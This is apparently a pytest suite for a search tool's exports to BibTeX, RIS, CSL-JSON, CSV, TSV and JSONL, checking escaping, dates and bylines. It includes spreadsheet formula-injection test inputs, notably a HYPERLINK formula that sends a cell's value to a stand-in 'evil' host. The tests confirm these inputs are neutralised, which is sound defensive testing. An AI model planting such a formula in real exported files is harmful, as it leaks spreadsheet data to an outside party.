"""All that a search finds, in the formats of other programs."""

import csv
import io
import json
import re
from collections.abc import Sequence
from dataclasses import replace
from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from index.article import Article, How, Precision, Published
from search.export import all_matches
from search.export.all_matches import AllMatches
from search.export.author_names import author_names
from search.export.bibtex import escaped
from search.export.days_known import parts_known
from search.export.delimited_rows import COLUMNS, defused
from search.export.export_formats import EXPORT_FORMATS, exported
from search.find import answer_to
from search.query import Copies
from search.request import Request
from tests.scan_engine import ScanEngine

TALKS = Article(
    id="54ce1f9f2a187429",
    path="/news/talks.txt",
    title="Peace & talks: 100% {sure}",
    title_is_stated=True,
    body="Seize the moment of peace, he said.",
    source="CNN",
    author="Jane Smith and Bob Jones Jr.",
    url="https://cnn.example/a_b?x={1}&y=2%20",
    published=Published(date(2022, 11, 12), date(2022, 11, 12), "day", "stated", "12 Nov"),
)
MONTH = replace(
    TALKS,
    id="b",
    title="=HYPERLINK(peace)",
    author=None,
    url=None,
    published=Published(date(2022, 11, 1), date(2022, 11, 30), "month", "filename", "2022-11"),
)
UNDATED = replace(TALKS, id="c", title="Peace\twith a tab", author="AFP", source=None, url=None, published=None)


def found(articles: Sequence[Article], copies: Copies = "all", most: int | None = None) -> AllMatches:
    """All that these articles have for one word."""
    engine = ScanEngine(articles)
    return AllMatches(engine, answer_to(engine, Request("peace", "oldest", copies=copies, size=1), None), most)


def text(name: str, *articles: Article) -> str:
    """These articles in a format."""
    return "".join(exported(found(articles), name))


def test_it_writes_an_entry_of_bibtex() -> None:
    assert text("bibtex", TALKS) == (
        "@article{a54ce1f9f2a187429,\n"
        "  title = {{Peace \\& talks: 100\\% \\textbraceleft{}sure\\textbraceright{}}},\n"
        "  author = {Jane Smith and Bob Jones Jr.},\n"
        "  journal = {CNN},\n"
        "  year = {2022},\n"
        "  month = nov,\n"
        "  day = {12},\n"
        "  url = {https://cnn.example/a_b?x=%7B1%7D&y=2%20}\n"
        "}\n\n"
    )


def test_it_writes_a_record_of_ris() -> None:
    assert text("ris", TALKS).split("\r\n") == [
        "TY  - NEWS",
        "ID  - 54ce1f9f2a187429",
        "TI  - Peace & talks: 100% {sure}",
        "AU  - Jane Smith",
        "AU  - Bob Jones Jr.",
        "T2  - CNN",
        "PY  - 2022",
        "DA  - 2022/11/12/",
        "UR  - https://cnn.example/a_b?x={1}&y=2%20",
        "ER  - ",
        "",
        "",
    ]


def test_it_writes_csl_json() -> None:
    assert json.loads(text("csl-json", TALKS, UNDATED)) == [
        {
            "id": "54ce1f9f2a187429",
            "type": "article-newspaper",
            "title": "Peace & talks: 100% {sure}",
            "author": [{"literal": "Jane Smith"}, {"literal": "Bob Jones Jr."}],
            "container-title": "CNN",
            "issued": {"date-parts": [[2022, 11, 12]]},
            "URL": "https://cnn.example/a_b?x={1}&y=2%20",
        },
        {"id": "c", "type": "article-newspaper", "title": "Peace\twith a tab", "author": [{"literal": "AFP"}]},
    ]
    assert json.loads(text("csl-json")) == []


def test_a_month_is_told_as_a_month_and_no_date_as_none() -> None:
    assert "  year = {2022},\n  month = nov\n}" in text("bibtex", MONTH)
    assert "DA  - 2022/11//\r\n" in text("ris", MONTH)
    assert json.loads(text("csl-json", MONTH))[0]["issued"] == {"date-parts": [[2022, 11]]}
    assert not re.search("year|month|day", text("bibtex", UNDATED))
    assert not re.search("DA|PY", text("ris", UNDATED))


@pytest.mark.parametrize(
    ("first", "last", "precision", "how", "parts"),
    [
        ("2022-11-10", "2022-11-13", "day", "inferred", (2022, 11)),
        ("2022-10-30", "2022-11-02", "day", "inferred", (2022,)),
        ("2022-12-30", "2023-01-02", "day", "inferred", None),
        ("2022-01-01", "2022-12-31", "year", "filename", (2022,)),
        ("2022-11-11", "2022-11-11", "day", "file", None),
        ("0099-11-11", "0099-11-11", "day", "stated", (99, 11, 11)),
    ],
)
def test_a_date_is_told_as_far_as_it_is_known(
    first: str, last: str, precision: Precision, how: How, parts: tuple[int, ...] | None
) -> None:
    published = Published(date.fromisoformat(first), date.fromisoformat(last), precision, how, "")
    assert parts_known(published) == parts


def test_days_that_were_worked_out_are_a_range_of_csl() -> None:
    days = Published(date(2022, 11, 10), date(2022, 11, 13), "day", "inferred", "Friday")
    issued = json.loads(text("csl-json", replace(TALKS, published=days)))[0]["issued"]
    assert issued == {"date-parts": [[2022, 11, 10], [2022, 11, 13]], "circa": True}


def test_a_spreadsheet_obeys_nothing_that_stands_in_a_row() -> None:
    head, row = csv.reader(io.StringIO(text("csv", MONTH)))
    cells = dict(zip(head, row, strict=True))
    assert cells["title"] == "'=HYPERLINK(peace)"
    assert (cells["published_first"], cells["published_last"], cells["precision"]) == (
        "2022-11-01",
        "2022-11-30",
        "month",
    )
    assert (cells["rank"], cells["author"], cells["record"]) == ("1", "", "")
    assert [defused(sign + "1") for sign in "=+-@\t"] == ["'=1", "'+1", "'-1", "'@1", "'\t1"]
    assert defused(-1) == -1


def test_a_row_between_tabs_is_one_line_of_as_many_cells() -> None:
    lines = text("tsv", UNDATED, replace(MONTH, title="peace\nand\r\u2028more")).splitlines()
    assert [len(line.split("\t")) for line in lines] == [len(COLUMNS)] * 3
    assert "Peace with a tab" in lines[2]


@pytest.mark.parametrize(
    "unseen", [" ", "\u00a0", "\u3000", "\ufeff", "\u200b", "\u2060", "\u00ad", "\x00", "\x1b", "\u202e"]
)
def test_a_formula_is_one_whatever_unseen_stands_before_it(unseen: str) -> None:
    assert defused(f"{unseen}=1") == f"'{unseen}=1"
    assert defused(f"{unseen}1") == f"{unseen}1"


def test_a_row_between_tabs_is_the_same_to_readers_who_know_quotation_marks() -> None:
    link = '"=HYPERLINK(""http://evil/?""&A2,""click"")"'
    lines = text("tsv", replace(TALKS, id="d", title=link), replace(TALKS, id="e", title='"open'), MONTH)
    read = list(csv.reader(io.StringIO(lines, newline=""), delimiter="\t"))
    title = COLUMNS.index("title")
    assert {row[title] for row in read} == {"title", link, '"open', "'=HYPERLINK(peace)"}
    assert not [cell for row in read for cell in row if cell.startswith("=")]


def test_ids_and_paths_are_lines_and_a_file_is_named_once() -> None:
    record = replace(MONTH, path="/news/a\nb.csv")
    assert text("ids", TALKS, MONTH) == "b\n54ce1f9f2a187429\n"
    assert text("paths", TALKS, record, replace(record, id="d")) == "/news/a\\nb.csv\n/news/talks.txt\n"


def test_lines_of_json_are_the_hits_of_the_search() -> None:
    lines = [json.loads(line) for line in text("jsonl", TALKS, UNDATED).splitlines()]
    assert [(line["rank"], line["id"]) for line in lines] == [(1, TALKS.id), (2, "c")]
    assert ["peace", True] in lines[0]["snippet"]


def test_every_match_is_read_and_no_more_than_are_wanted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(all_matches, "AT_ONCE", 5)
    many = [replace(TALKS, id=f"{number:02}", story="00", wording=f"{number % 7}") for number in range(12)]
    assert len(list(found(many).ids())) == len(list(found(many).hits())) == 12
    assert [each.rank for each in found(many).ranked()] == list(range(1, 13))
    assert [each.rank for each in found(many, most=11).ranked()] == list(range(1, 12))
    assert list(found(many, "stories").ids()) == ["00"]
    assert len(list(found(many, "reprints").ids())) == 7


@pytest.mark.parametrize(
    ("byline", "names"),
    [
        (None, []),
        ("Jane Smith", ["Jane Smith"]),
        ("By Jane Smith and Bob Jones, Jr.", ["Jane Smith", "Bob Jones Jr."]),
        ("Smith, Jane", ["Smith, Jane"]),
        ("Paul Goldman, Mosheh Gains & Ann Lee; AFP", ["Paul Goldman", "Mosheh Gains", "Ann Lee", "AFP"]),
        ("Andy Anderson", ["Andy Anderson"]),
        ("and", []),
    ],
)
def test_a_byline_names_people(byline: str | None, names: list[str]) -> None:
    assert author_names(byline) == names


ANYTHING = st.text(st.characters(exclude_categories=()), max_size=12)


@settings(max_examples=40)
@given(title=ANYTHING, author=ANYTHING, url=ANYTHING, path=ANYTHING)
def test_whatever_stands_in_an_article_stays_in_its_place(title: str, author: str, url: str, path: str) -> None:
    odd = replace(TALKS, title=title, author=author, url=url, path=path)
    for name in EXPORT_FORMATS:
        text(name, odd).encode()
    lines = text("ris", odd, TALKS).split("\r\n")
    assert all(re.match(r"[A-Z][A-Z0-9]  -( |$)", line) for line in lines if line)
    assert sum(line.startswith("ER") for line in lines) == 2
    assert [len(row) for row in csv.reader(io.StringIO(text("csv", odd, TALKS), newline=""))] == [len(COLUMNS)] * 3
    assert text("tsv", odd, TALKS).count("\n") == 3
    tsv = csv.reader(io.StringIO(text("tsv", odd, TALKS), newline=""), delimiter="\t")
    assert [len(row) for row in tsv] == [len(COLUMNS)] * 3
    assert len(json.loads(text("csl-json", odd, TALKS))) == 2
    assert is_balanced(text("bibtex", odd))


def is_balanced(entry: str) -> bool:
    """BibTeX, which counts braces and knows no backslash, finds the end of the entry at its end."""
    depth = 0
    for at, sign in enumerate(entry.rstrip()):
        depth += {"{": 1, "}": -1}.get(sign, 0)
        if depth == 0 and "{" in entry[: at + 1] and at + 1 < len(entry.rstrip()):
            return False
    return depth == 0


def test_what_latex_would_obey_is_written_out() -> None:
    assert escaped("a\\b ~ ^ # $ _\nü") == r"a\textbackslash{}b \textasciitilde{} \textasciicircum{} \# \$ \_ ü"
